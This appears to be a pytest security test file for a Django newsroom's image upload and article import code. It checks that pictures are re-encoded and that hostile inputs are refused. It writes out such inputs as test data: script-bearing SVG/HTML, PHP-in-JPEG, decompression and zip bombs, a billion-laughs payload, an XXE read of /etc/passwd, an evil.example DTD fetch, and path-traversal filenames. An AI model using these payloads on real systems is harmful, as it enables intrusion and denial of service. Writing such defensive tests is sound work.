"""Pictures are drawn anew, hostile imports refused; rows I01 to I03, and what uploads may hold."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from PIL import Image as Drawing
from PIL import ImageCms, PngImagePlugin

from newsroom import pictures
from newsroom.imports.importer import Importer
from newsroom.models import Article, Image
from newsroom.pictures import KINDS, NoPicture, drawn_anew

pytestmark = pytest.mark.django_db
SECRET = "a secret place"


def encoded(kind, mode="RGB", size=(40, 30), **options) -> bytes:
    data = io.BytesIO()
    Drawing.new(mode, size).save(data, kind, **options)
    return data.getvalue()


def opened(data: bytes) -> Drawing.Image:
    drawing = Drawing.open(io.BytesIO(data))
    drawing.load()
    return drawing


MODES = {
    "JPEG": ["L", "RGB", "CMYK", "1"],
    "PNG": ["1", "L", "LA", "P", "RGB", "RGBA"],
    "WEBP": ["L", "LA", "P", "RGB", "RGBA"],
    "GIF": ["1", "L", "P", "RGB", "RGBA"],
    "AVIF": ["L", "LA", "RGB", "RGBA"],
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_picture_of_any_kind_is_drawn_anew(kind):
    for mode in MODES[kind]:
        made = drawn_anew(io.BytesIO(encoded(kind, mode)), "a/b.x")
        assert made.name == f"b{KINDS[kind]}"
        drawing = opened(made.read())
        assert (drawing.format, drawing.size) == (kind, (40, 30)), mode


def test_a_picture_keeps_nothing_but_its_pixels():
    exif = Drawing.Exif()
    exif[0x010E], exif[0x0112] = SECRET, 6
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encoded("JPEG", exif=exif, icc_profile=profile, comment=SECRET.encode())
    data += b"<?php echo 1 ?>" + SECRET.encode()
    made = drawn_anew(io.BytesIO(data), "a.php.jpg").read()
    assert SECRET.encode() not in made
    assert b"<?php" not in made
    drawing = opened(made)
    assert drawing.size == (30, 40)  # turned as the camera was
    assert not drawing.getexif()
    assert "icc_profile" not in drawing.info
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET)
    made = drawn_anew(io.BytesIO(encoded("PNG", pnginfo=text)), "a.png").read()
    assert SECRET.encode() not in made


def test_a_clear_background_stays_clear():
    made = drawn_anew(io.BytesIO(encoded("PNG", "RGBA")), "a.png").read()
    assert opened(made).getpixel((1, 1))[3] == 0


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.svg", SVG),
        ("a.png", SVG),
        ("a.png", b"GIF89a<script>alert(1)</script>"),
        ("a.jpg", b"\xff\xd8\xff\xe0 no picture"),
        ("a.png", encoded("PNG")[:60]),
        ("a.tiff", encoded("TIFF")),
        ("a.bmp", encoded("BMP")),
        ("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
        ("a.html", b"<html><script>alert(1)</script>"),
        ("a.png", b"x"),
    ],
)
def test_what_is_no_picture_of_these_kinds_is_refused(admin_client, name, data):
    with pytest.raises(NoPicture):
        drawn_anew(io.BytesIO(data), name)
    page = admin_client.post("/admin/newsroom/image/add/", {"file": SimpleUploadedFile(name, data)})
    assert "This file" in page.context["adminform"].form.errors["file"][0]
    assert not Image.objects.exists()


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is that large, and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(100))
    parts = chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


@pytest.mark.parametrize("size", [(8000, 8000), (30000, 30000), (2**31 - 1, 1), (10**6, 10**6)])
def test_a_picture_of_too_many_pixels_is_never_decoded(size):
    with pytest.raises(NoPicture, match="pixels|cannot be read"):
        drawn_anew(io.BytesIO(png_of(*size)), "bomb.png")


def test_a_file_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(pictures, "MAX_BYTES", 100)
    with pytest.raises(NoPicture, match="larger than 100 bytes"):
        drawn_anew(io.BytesIO(encoded("BMP")), "a.bmp")


def test_the_desk_stores_what_was_drawn_anew(admin_client):
    exif = Drawing.Exif()
    exif[0x010E] = SECRET
    upload = SimpleUploadedFile("../../up load.php.jpeg", encoded("JPEG", exif=exif))
    assert admin_client.post("/admin/newsroom/image/add/", {"file": upload}).status_code == 302
    image = Image.objects.get()
    assert image.file.name.startswith("images/20")
    assert image.file.name.endswith(".jpg")
    assert ".." not in image.file.name
    with image.file.open() as file:
        assert SECRET.encode() not in file.read()
    assert (image.width, image.height) == (40, 30)


def run(*paths) -> tuple[int, str]:
    out, code = io.StringIO(), 0
    try:
        call_command("import_articles", *map(str, paths), stdout=out, stderr=out)
    except SystemExit as end:
        code = end.code
    return code, out.getvalue()


def lines(*items) -> str:
    return "".join(json.dumps(item) + "\n" for item in items)


def story(number, **fields):
    return {"external_id": f"t:{number}", "headline": f"Story {number}", "source": "W"} | fields


def test_an_imported_picture_is_drawn_anew_too(tmp_path):
    exif = Drawing.Exif()
    exif[0x010E] = SECRET
    (tmp_path / "a.jpg").write_bytes(encoded("JPEG", exif=exif))
    (tmp_path / "b.png").write_bytes(png_of(30000, 30000))
    items = [story(1, image={"path": "a.jpg"}), story(2, image={"path": "b.png"})]
    (tmp_path / "in.jsonl").write_text(lines(*items))
    run(tmp_path / "in.jsonl")
    stored = [image for image in Image.objects.all() if image.file]
    assert len(stored) == 1
    with stored[0].file.open() as file:
        assert SECRET.encode() not in file.read()


ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "laughs": f'<!DOCTYPE html [<!ENTITY l0 "lol">{ENTITIES}]>',
    "outside": '<!DOCTYPE html [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
    "dtd": '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "x"> %p;]>',
}
PAGE = "<html><head><title>Harbour board meets</title></head><body><article>"
TEXT = "<p>The harbour board met on Monday and took a long vote on the dues of the ferry. &l9;</p>"


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("name", ["a.html", "a.xhtml", "a.sgm"])
def test_entities_are_not_expanded_and_nothing_is_fetched(tmp_path, bomb, name):
    declared = '<?xml version="1.0"?>' if name == "a.xhtml" else ""
    page = f"{declared}{BOMBS[bomb]}{PAGE}{TEXT * 8}</article></body></html>"
    (tmp_path / name).write_text(page)
    code, _said = run(tmp_path / name)
    assert code in (0, 1, 2)
    for article in Article.objects.all():
        assert len(article.body) < 5000
        assert "root:" not in article.body
        assert "lollol" not in article.body


@pytest.mark.parametrize("tag", ["div", "b", "table"])
def test_deep_nesting_is_no_crash(tmp_path, tag):
    page = f"{PAGE}{f'<{tag}>' * 10_000}{TEXT}{f'</{tag}>' * 10_000}{TEXT * 8}</article>"
    (tmp_path / "a.html").write_text(page)
    assert run(tmp_path / "a.html")[0] in (0, 1, 2)
    (tmp_path / "a.jsonl").write_text(lines(story(1, body_html=page)))
    assert run(tmp_path / "a.jsonl")[0] == 0


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deep_json_is_one_rejected_line(tmp_path, opening):
    deep = f'{{"headline": {opening * 100_000}\n'
    (tmp_path / "a.jsonl").write_text(lines(story(1)) + deep + lines(story(2)))
    code, said = run(tmp_path / "a.jsonl")
    assert code == 1
    assert "imported 2, updated 0, unchanged 0, rejected 1" in said


def test_a_gzip_bomb_is_stopped(tmp_path):
    packed = gzip.compress(b" " * (40 << 20))
    packed = gzip.compress(packed) if len(packed) > 60_000 else packed
    (tmp_path / "a.jsonl.gz").write_bytes(packed)
    assert run(tmp_path / "a.jsonl.gz")[0] == 2
    assert not Article.objects.exists()


def test_a_zip_file_is_refused_in_a_sentence(tmp_path):
    with zipfile.ZipFile(tmp_path / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.jsonl", lines(story(1)))
        archive.writestr("bomb.txt", b"0" * 1_000_000)
    code, _said = run(tmp_path / "a.zip")
    assert code == 2
    assert not (tmp_path.parent / "evil.jsonl").exists()
    assert not Article.objects.exists()


@pytest.mark.parametrize("path", ["../secret.png", "/etc/hostname", "link.png", "a/../../x.png"])
def test_a_picture_comes_from_beside_its_file_and_nowhere_else(tmp_path, path):
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("secret.png", "x.png"):
        (tmp_path / name).write_bytes(encoded("PNG"))
    (folder / "link.png").symlink_to(tmp_path / "secret.png")
    (folder / "in.jsonl").write_text(lines(story(1, image={"path": path})))
    assert run(folder / "in.jsonl")[0] == 0
    assert not any(image.file for image in Image.objects.all())


def test_the_same_file_twice_makes_no_duplicates(tmp_path):
    (tmp_path / "in.jsonl").write_text(lines(*(story(number) for number in range(30))))
    assert "imported 30" in run(tmp_path / "in.jsonl")[1]
    assert "imported 0, updated 0, unchanged 30" in run(tmp_path / "in.jsonl")[1]
    assert Article.objects.count() == 30


@pytest.mark.django_db(transaction=True)
def test_an_import_that_is_stopped_goes_on_where_it_was(tmp_path, monkeypatch):
    (tmp_path / "in.jsonl").write_text(lines(*(story(number) for number in range(1500))))
    write, calls = Importer._write, []

    def stopped(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return write(self, *args, **kwargs)

    monkeypatch.setattr(Importer, "_write", stopped)
    with pytest.raises(KeyboardInterrupt):
        run(tmp_path / "in.jsonl")
    before = Article.objects.count()
    monkeypatch.undo()
    _code, said = run(tmp_path / "in.jsonl")
    assert f"imported {1500 - before}, updated 0, unchanged {before}, rejected 0" in said
    assert Article.objects.count() == 1500
